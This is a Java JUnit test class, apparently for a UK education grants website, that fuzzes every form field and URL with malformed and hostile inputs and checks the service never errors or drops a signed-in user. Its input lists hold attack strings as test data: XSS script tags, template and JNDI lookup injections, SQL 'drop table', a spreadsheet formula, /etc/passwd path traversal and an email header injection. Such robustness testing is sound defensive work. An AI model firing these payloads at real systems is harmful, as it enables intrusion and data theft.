package uk.gov.education.grants.site;

import static java.util.stream.Collectors.joining;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.DynamicTest.dynamicTest;

import java.nio.charset.StandardCharsets;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.TestFactory;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpMethod;
import org.springframework.test.web.servlet.assertj.MvcTestResult;
import org.springframework.util.LinkedMultiValueMap;
import org.springframework.util.MultiValueMap;
import uk.gov.education.grants.support.DemoHouse;
import uk.gov.education.grants.support.Site;
import uk.gov.education.grants.support.Site.Visit;
import uk.gov.education.grants.support.SiteReader;

/// Whatever is typed into whichever field of whichever form, the service answers: with a page that gives back what was
/// typed, or by going on. It never fails, and never sends anybody who is signed in to sign in.
@DemoHouse
class BadInputTest {

    private static final List<String> NASTY = List.of(
            " ",
            "a\u0000b\u0007\u001b[31m\ufffe\uffff",
            "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿 e\u0301\u0302\u0303 \u200b\u202egnp.exe Ŵyth tŷ bach",
            "\"><script>alert(1)</script><img src=x onerror=alert(1)>",
            "__${7*7}__::x [[${7*7}]] #{7*7} *{7*7} {0} %s%n%x ${jndi:ldap://example.org/a}",
            "'; drop table bid; --",
            "=HYPERLINK(\"http://example.org\")",
            "../../etc/passwd",
            "a\r\nBcc: everybody@example.org",
            "-1",
            "0",
            "0.001",
            "£ 1,234.56",
            "１２３",
            "NaN",
            "9223372036854775807",
            "9999999999999999999999",
            "32",
            "2027-02-29",
            "10000",
            "2147483648",
            "00000000-0000-0000-0000-000000000000",
            "http://[::1",
            "long ".repeat(20_001));

    /// Sent in one field alone, where the rest of the form is as it should be, so that nothing else stops it.
    private static final List<String> NASTIEST = List.of("\u0000", "x".repeat(301), "-9999999999999999999999");

    private static final List<String> NASTY_IN_ADDRESSES = List.of(
            "%00",
            "%F0%9F%91%A9",
            "%ED%A0%BD",
            "..%2F..%2Fetc%2Fpasswd",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "-1",
            "99999999999999999999",
            "BID-9999-99999999999",
            "00000000-0000-0000-0000-000000000000",
            "x".repeat(3_000));

    /// What pages are asked for after the question mark, whether or not this page listens to it.
    private static final List<String> QUESTIONS = List.of(
            "q", "after", "before", "from", "year", "status", "region", "programme", "kind", "advice", "refused");

    @Autowired
    Site site;

    @Autowired
    SiteReader reader;

    private final AtomicInteger turns = new AtomicInteger();

    @TestFactory
    Stream<DynamicTest> everyFormTakesAnything() {
        var known = new HashSet<String>();
        return site.pages().stream().flatMap(visit -> {
            var page = document(reader.get(visit.who(), visit.address()));
            return page.select("main form").stream()
                    .filter(form ->
                            known.add(addressOf(form, visit) + filled(form).keySet()))
                    .map(form -> dynamicTest(
                            "%s, sent to %s".formatted(visit, addressOf(form, visit)),
                            () -> sendAnythingIn(visit, form)));
        });
    }

    @TestFactory
    Stream<DynamicTest> everyAddressTakesAnything() {
        var known = new HashSet<String>();
        return Stream.of(site.pages(), site.files(), site.actions())
                .flatMap(List::stream)
                .filter(visit -> known.add(visit.who() + visit.address()))
                .map(visit -> dynamicTest(visit.toString(), () -> askForAnything(visit, known)));
    }

    private void askForAnything(Visit visit, Set<String> known) {
        var path = visit.address().replaceAll("\\?.*", "");
        for (var nasty : NASTY_IN_ADDRESSES) {
            var steps = path.split("/");
            for (var step = 1; step < steps.length; step++) {
                var changed = steps.clone();
                changed[step] = nasty;
                // what begins with nonsense leads nowhere, whatever follows: once for each length
                var isNew = known.add(step == 1 ? nasty + steps.length : String.join("/", changed));
                if (isNew) {
                    ask(visit, String.join("/", changed));
                }
            }
        }
        // three of them a page, others on the next, so that all of them come round
        var first = turns.getAndIncrement();
        for (var turn = 0; turn < 3; turn++) {
            var nasty = NASTY_IN_ADDRESSES.get((first + turn) % NASTY_IN_ADDRESSES.size());
            ask(visit, QUESTIONS.stream().map(each -> each + "=" + nasty).collect(joining("&", path + "?", "")));
        }
    }

    private void ask(Visit visit, String address) {
        assertThat(reader.get(visit.who(), address).getResponse().getStatus())
                .as(shortened(address))
                .isLessThan(500);
    }

    private void sendAnythingIn(Visit visit, Element form) {
        var asFilled = filled(form);
        var typed = form.select("input:not([type=hidden]):not([type=file]), textarea, select").eachAttr("name").stream()
                .filter(name -> !name.isEmpty())
                .distinct()
                .toList();
        var hidden = form.select("input[type=hidden]").eachAttr("name");
        for (var nasty : NASTY) {
            var fields = new LinkedMultiValueMap<>(asFilled);
            typed.forEach(field -> fields.set(field, nasty));
            send(visit, form, fields, nasty);
        }
        for (var field :
                Stream.concat(typed.stream(), hidden.stream()).distinct().toList()) {
            for (var nasty : NASTIEST) {
                var fields = new LinkedMultiValueMap<>(asFilled);
                fields.set(field, nasty);
                send(visit, form, fields, nasty);
            }
        }
    }

    private void send(Visit visit, Element form, MultiValueMap<String, String> fields, String nasty) {
        var isSent = form.attr("method").equals("post");
        var address = addressOf(form, visit);
        var answer = reader.send(isSent ? HttpMethod.POST : HttpMethod.GET, visit.who(), address, fields);
        var what = "%s with %s".formatted(address, shortened(fields.toString()));
        assertThat(answer.getResponse().getStatus()).as(what).isLessThan(500);
        assertThat(Objects.requireNonNullElse(answer.getResponse().getRedirectedUrl(), ""))
                .as(what)
                .doesNotEndWith("/sign-in");
        if (isSent && answer.getResponse().getStatus() == 200) {
            givesBack(document(answer), fields, nasty, what);
        }
    }

    private static String addressOf(Element form, Visit visit) {
        return form.attr("action").isEmpty() ? visit.address() : form.attr("action");
    }

    private static void givesBack(Document page, MultiValueMap<String, String> fields, String nasty, String what) {
        fields.forEach((name, values) -> {
            var field = page.select("main form[method=post] [name=\"%s\"]".formatted(name))
                    .first();
            if (field != null && values.contains(nasty) && field.is("textarea, input[type=text], input:not([type])")) {
                assertThat(field.is("textarea") ? field.wholeText() : field.val())
                        .as("%s of %s", name, what)
                        // as HTML reads what it cannot hold
                        .isEqualToNormalizingNewlines(nasty.replace('\0', '\ufffd'));
            }
        });
    }

    private static MultiValueMap<String, String> filled(Element form) {
        var fields = new LinkedMultiValueMap<String, String>();
        for (var field : form.select("input:not([type=file]), textarea, select")) {
            var isChoice = field.is("[type=checkbox], [type=radio]");
            if (!isChoice || field.hasAttr("checked")) {
                fields.add(field.attr("name"), valueOf(field));
            }
        }
        fields.remove("");
        return fields;
    }

    private static String valueOf(Element field) {
        if (field.is("select")) {
            return Stream.of(field.select("option[selected]"), field.select("option"))
                    .flatMap(List::stream)
                    .findFirst()
                    .map(Element::val)
                    .orElse("");
        }
        return field.is("textarea") ? field.wholeText() : field.val();
    }

    private static Document document(MvcTestResult answer) {
        return Jsoup.parse(new String(answer.getResponse().getContentAsByteArray(), StandardCharsets.UTF_8));
    }

    private static String shortened(String text) {
        return text.length() > 400 ? text.substring(0, 400) + "…" : text;
    }
}
